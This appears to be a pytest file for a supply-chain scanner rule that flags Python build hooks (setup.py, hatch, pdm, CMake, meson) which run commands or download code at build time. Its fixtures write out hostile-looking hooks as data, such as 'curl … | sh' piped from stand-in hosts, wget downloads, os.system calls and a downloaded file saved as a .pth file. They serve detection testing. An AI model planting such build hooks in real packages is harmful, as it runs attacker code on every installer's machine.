from ztsa.model import Status


def test_pass(machine):
    machine.fixture("py-setup-plain")
    machine.ws("other/setup.py", "import subprocess\n\ndef version():\n"
               "    return subprocess.check_output(['git', 'describe'])\n")
    assert machine.run("SUP013").status is Status.PASS


def test_fail(machine):
    machine.fixture("py-setup-cmdclass")
    out = machine.run("SUP013")
    assert out.status is Status.FAIL
    assert sorted((e.line, e.detail) for e in out.evidence) == [
        (6, "class PostInstall subclasses the install command"),
        (12, "module-level call to base64.b64decode()"),
        (12, "module-level call to exec()"),
        (13, "cmdclass overrides 'install'"),
    ]


def test_fail_network_at_module_level(machine):
    machine.ws("setup.py", "import urllib.request, os\n"
               "if True:\n    urllib.request.urlopen('https://x.invalid')\nos.system('id')\n")
    out = machine.run("SUP013")
    assert [e.line for e in out.evidence] == [3, 4]


def test_unknown(machine):
    machine.ws("setup.py", "def broken(:\n")
    out = machine.run("SUP013")
    assert out.status is Status.UNKNOWN and "not valid Python" in out.message


HATCH = """[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[tool.hatch.build.targets.wheel.hooks.custom]
path = "tools/build_hook.py"
"""
HOOK = """from hatchling.builders.hooks.plugin.interface import BuildHookInterface
import os


class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        os.system("curl -s https://x.example/p.sh | sh")
"""


def test_fail_build_hooks_of_hatch_and_pdm_anywhere_in_the_file(machine):
    """A hatch hook named by a target's hooks.custom table that pipes a download into
    sh from its initialize(), and pdm's default pdm_build.py shelling out."""
    machine.ws("pyproject.toml", HATCH)
    machine.ws("tools/build_hook.py", HOOK)
    machine.ws("sub/pyproject.toml", '[build-system]\nrequires = ["pdm-backend"]\n'
               'build-backend = "pdm.backend"\n')
    machine.ws("sub/pdm_build.py", "import subprocess\n\ndef pdm_build_initialize(ctx):\n"
               "    subprocess.run(['npm', 'ci'])\n")
    out = machine.run("SUP013")
    assert out.status is Status.FAIL
    assert sorted((e.path, e.line, e.detail) for e in out.evidence) == [
        ("sub/pdm_build.py", 4, "the pdm build hook calls subprocess.run(): runs a command "
                                "('npm ci')"),
        ("tools/build_hook.py", 7, "the hatch build hook calls os.system(): runs a download "
                                   "as code ('curl -s https://x.example/p.sh | sh')")]


def test_fail_native_builds_that_download_at_build_time(machine):
    machine.ws("pyproject.toml", '[build-system]\nrequires = ["scikit-build-core"]\n'
               'build-backend = "scikit_build_core.build"\n')
    machine.ws("CMakeLists.txt", "cmake_minimum_required(VERSION 3.15)\ninclude(FetchContent)\n"
               "FetchContent_Declare(fmt\n  GIT_REPOSITORY https://github.com/fmtlib/fmt\n)\n"
               "file(DOWNLOAD https://x.example/blob.bin blob.bin)\n")
    machine.ws("m/pyproject.toml", '[build-system]\nrequires = ["meson-python"]\n'
               'build-backend = "mesonpy"\n')
    machine.ws("m/meson.build", "project('x')\n# run_command('curl', u) in a comment\n"
               "r = run_command('wget', 'https://x.example/t.tgz', check: true)\n")
    out = machine.run("SUP013")
    assert out.status is Status.FAIL
    assert sorted((e.path, e.line) for e in out.evidence) == [
        ("CMakeLists.txt", 3), ("CMakeLists.txt", 6), ("m/meson.build", 3)]


def test_pass_hooks_that_only_compute_and_builds_that_fetch_nothing(machine):
    machine.ws("pyproject.toml", HATCH)
    machine.ws("tools/build_hook.py", "from hatchling.builders.hooks.plugin.interface import "
               "BuildHookInterface\n\nclass H(BuildHookInterface):\n"
               "    def initialize(self, version, build_data):\n"
               "        build_data['tag'] = 'py3-none-any'\n")
    machine.ws("n/pyproject.toml", '[build-system]\nrequires = ["scikit-build-core"]\n'
               'build-backend = "scikit_build_core.build"\n')
    machine.ws("n/CMakeLists.txt", "project(x)\nadd_library(x x.c)\n")
    # a CMakeLists.txt that downloads, in a project no Python backend builds
    machine.ws("c/CMakeLists.txt", "file(DOWNLOAD https://x.example/a a)\n")
    assert machine.run("SUP013").status is Status.PASS


def test_unknown_a_hook_that_does_not_parse(machine):
    machine.ws("pyproject.toml", HATCH)
    machine.ws("tools/build_hook.py", "def initialize(:\n")
    assert machine.run("SUP013").status is Status.UNKNOWN


def test_fail_hooks_however_imported_and_say_what_they_do(machine):
    """A hatch metadata hook that runs `from subprocess import run; run("curl … | sh")`
    passed every rule; so did CMake's `execute_process(COMMAND sh -c "curl … | sh")`
    and meson's `run_command('sh', '-c', 'curl …')`. Each finding says what the call
    does."""
    machine.ws("pyproject.toml", '[build-system]\nrequires = ["hatchling"]\n'
               'build-backend = "hatchling.build"\n[project]\nname = "a"\nversion = "1"\n'
               '[tool.hatch.metadata.hooks.custom]\n')
    machine.ws("hatch_build.py", "from subprocess import run as go\nimport os as o\n"
               "from hatchling.metadata.plugin.interface import MetadataHookInterface\n"
               "class H(MetadataHookInterface):\n    def update(self, m):\n"
               "        go('curl -s https://x.invalid/i | sh', shell=True)\n"
               "        o.system('make docs')\n")
    out = machine.run("SUP013")
    assert out.status is Status.FAIL, out
    details = [e.detail for e in out.evidence]
    assert details == ["the hatch build hook calls subprocess.run(): runs a download as code"
                       " ('curl -s https://x.invalid/i | sh')",
                       "the hatch build hook calls os.system(): runs a command ('make docs')"]
    for backend, build, text in (
            ("scikit_build_core.build", "CMakeLists.txt",
             'execute_process(COMMAND sh -c "curl -fsSL https://x.invalid/i | sh")\n'),
            ("scikit_build_core.build", "CMakeLists.txt",
             "add_custom_command(OUTPUT g.c COMMAND git clone https://x.invalid/g)\n"),
            ("mesonpy", "meson.build", "run_command('sh', '-c', 'curl https://x.invalid | sh')\n")):
        machine.ws("pyproject.toml", f'[build-system]\nbuild-backend = "{backend}"\n'
                   '[project]\nname = "n"\nversion = "1"\n')
        (machine.workspace / "hatch_build.py").unlink(missing_ok=True)
        for other in ("CMakeLists.txt", "meson.build"):
            (machine.workspace / other).unlink(missing_ok=True)
        machine.ws(build, text)
        out = machine.run("SUP013")
        assert out.status is Status.FAIL and "downloads at build time" in out.evidence[0].detail, (
            build, text, out)
        machine.ws(build, "execute_process(COMMAND git describe --tags)\n"
                   "run_command('python3', '-c', 'print(1)')\n")
        assert machine.run("SUP013").status is Status.PASS, build


def test_a_hook_that_only_downloads_data_is_advice(machine):
    """awslabs/mcp: a hatch build hook that fetches a CA bundle over https and writes it
    for the wheel downloads data, and nothing in it runs code: advisory. The same hook
    writing what it fetched as a `.pth` file (code every interpreter start runs), or
    also running a command, still gates."""
    machine.ws("pyproject.toml", '[build-system]\nrequires = ["hatchling"]\n'
               'build-backend = "hatchling.build"\n[project]\nname = "a"\nversion = "1"\n'
               '[tool.hatch.build.hooks.custom]\n')
    hook = ("import os\nimport urllib.request\n"
            "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
            "URL = 'https://truststore.x.example/global-bundle.pem'\n"
            "class H(BuildHookInterface):\n    def initialize(self, version, data):\n"
            "        with urllib.request.urlopen(URL, timeout=30) as r:\n"
            "            body = r.read()\n"
            "        with open(os.path.join('src', 'a', 'bundle.pem'), 'wb') as fh:\n"
            "            fh.write(body)\n")
    machine.ws("hatch_build.py", hook)
    out = machine.run("SUP013")
    assert out.status is Status.FAIL and out.advisory, out
    assert [(e.line, "downloads data" in e.detail) for e in out.evidence] == [(7, True)]
    for bad in (hook.replace("'bundle.pem'", "'zz_boot.pth'"),
                hook + "        os.system('sh ' + 'src/a/bundle.pem')\n"):
        machine.ws("hatch_build.py", bad)
        out = machine.run("SUP013")
        assert out.status is Status.FAIL and not out.advisory, (bad, out)
